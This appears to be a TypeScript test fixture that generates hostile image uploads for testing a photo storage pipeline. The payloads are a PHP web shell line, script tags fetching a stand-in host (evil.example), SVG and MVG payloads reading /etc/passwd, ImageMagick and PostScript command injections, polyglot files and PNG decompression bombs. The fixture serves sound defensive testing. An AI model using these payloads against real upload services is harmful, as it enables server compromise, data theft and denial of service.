import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

const SIDE = 240;
/** Noise, so that a truncated file lacks something. */
const noise = Buffer.from(Array.from({ length: SIDE * SIDE * 3 }, (_, i) => (i * 7919 + ((i * i) % 251)) % 256));
const photo = (width = SIDE, height = SIDE) =>
  width === SIDE && height === SIDE
    ? sharp(noise, { raw: { width, height, channels: 3 } })
    : sharp({ create: { width, height, channels: 3, background: '#7a3' } });

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
};

/** A PNG that states this size; its pixels are compressed zeros. */
const bomb = (width: number, height: number, bytes: number): Buffer => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc(bytes), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
};

const withText = (png: Buffer, text: string): Buffer =>
  Buffer.concat([png.subarray(0, -12), chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')), png.subarray(-12)]);

/** A mark that no stored file may contain. */
export const MARK = 'jejak-rahasia-4711';
const PHP = `<?php system($_GET["c"]); /* ${MARK} */ ?>`;
const SCRIPT = `<script>fetch("https://evil.example/${MARK}")</script>`;

/** About sixty files that must not be stored as they are; generated, so that none lies in the repository. */
export const hostilePhotos = async (): Promise<[name: string, file: Buffer][]> => {
  const jpeg = await photo().jpeg().toBuffer();
  const png = await photo().png().toBuffer();
  const webp = await photo().webp().toBuffer();
  const kinds: [string, Buffer][] = [
    ['jpeg', jpeg],
    ['png', png],
    ['webp', webp],
  ];
  const gps = { IFD0: { Copyright: MARK, Artist: MARK }, IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '6/1 12/1 0/1' } };
  const comment = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, PHP.length + 2]),
    Buffer.from(PHP),
    jpeg.subarray(2),
  ]);
  const texts: [string, string][] = [
    ['an SVG', `<svg xmlns="http://www.w3.org/2000/svg" width="500" height="500">${SCRIPT}</svg>`],
    [
      'an SVG that fetches',
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd" width="500" height="500"/></svg>',
    ],
    ['an SVG with entities', '<!DOCTYPE x [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>'],
    ['HTML', `<!doctype html><html>${SCRIPT}</html>`],
    ['a script', SCRIPT],
    ['PHP', PHP],
    ['a PDF', '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'],
    ['PostScript', '%!PS-Adobe-3.0\n(%pipe%id) (r) file'],
    ['commands of ImageMagick', 'push graphic-context\nfill "url(https://evil.example/|id)"'],
    ['a text', MARK],
    ['a blank', ' '],
    ['nothing', ''],
    ['JSON', '{"photo":1}'],
    ['an MVG', 'viewbox 0 0 500 500 image over 0,0 0,0 "label:@/etc/passwd"'],
  ];
  const starts: [string, number[]][] = [
    ['a JPEG', [0xff, 0xd8, 0xff, 0xe0]],
    ['a PNG', [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]],
    ['a WebP', [...Buffer.from('RIFF\x20\0\0\0WEBPVP8 ')]],
    ['a GIF', [...Buffer.from('GIF89a')]],
    ['a TIFF', [0x49, 0x49, 0x2a, 0]],
    ['a BMP', [0x42, 0x4d]],
    ['a ZIP', [0x50, 0x4b, 3, 4]],
    ['a program', [0x7f, 0x45, 0x4c, 0x46]],
    ['an icon', [0, 0, 1, 0]],
    ['a HEIC', [0, 0, 0, 0x18, ...Buffer.from('ftypheic')]],
    ['a JPEG 2000', [0, 0, 0, 0x0c, 0x6a, 0x50, 0x20, 0x20, 0x0d, 0x0a, 0x87, 0x0a]],
    ['a Photoshop file', [...Buffer.from('8BPS'), 0, 1]],
  ];
  const large = await photo(4_500, 4_000).jpeg({ progressive: true }).toBuffer();
  return [
    ...texts.map(([name, text]): [string, Buffer] => [name, Buffer.from(text)]),
    ...starts.map(([name, bytes]): [string, Buffer] => [
      `what begins as ${name}`,
      Buffer.concat([Buffer.from(bytes), Buffer.from(SCRIPT.repeat(9))]),
    ]),
    ...kinds.flatMap(([kind, file]): [string, Buffer][] => [
      [`a ${kind} with PHP behind it`, Buffer.concat([file, Buffer.from(PHP)])],
      [`a ${kind} with a page behind it`, Buffer.concat([file, Buffer.from(SCRIPT)])],
      [`a ${kind} with a ZIP behind it`, Buffer.concat([file, Buffer.from([0x50, 0x4b, 3, 4]), Buffer.from(MARK)])],
      [`half a ${kind}`, file.subarray(0, file.length >> 1)],
      [`the head of a ${kind}`, file.subarray(0, 40)],
      [`a ${kind} with its middle gone`, Buffer.concat([file.subarray(0, 400), Buffer.alloc(4_000), file.subarray(4_400)])],
    ]),
    ['a JPEG with GPS', await photo().jpeg().withExif(gps).toBuffer()],
    ['a PNG with GPS', await photo().png().withExif(gps).toBuffer()],
    ['a WebP with GPS', await photo().webp().withExif(gps).toBuffer()],
    ['a JPEG with a comment', comment],
    ['a PNG with a text', withText(png, SCRIPT)],
    ['a JPEG in CMYK', await photo().toColourspace('cmyk').jpeg().toBuffer()],
    ['a GIF', await photo().gif().toBuffer()],
    ['a TIFF', await photo().tiff().toBuffer()],
    ['an AVIF', await photo(SIDE, SIDE).avif({ effort: 0 }).toBuffer()],
    ['a PNG of 320 megapixels', bomb(20_000, 16_000, 1_000_000)],
    ['a PNG of four thousand million pixels', bomb(65_535, 65_535, 1_000)],
    ['a PNG of no width', bomb(0, 500, 10)],
    ['a PNG that lacks its pixels', bomb(5_000, 5_000, 100)],
    ['a PNG of one dot', bomb(1, 1, 4)],
    ['a JPEG of 18 megapixels', large],
    ['a photo as narrow as a hair', await photo(4_000, 20).jpeg().toBuffer()],
  ];
};
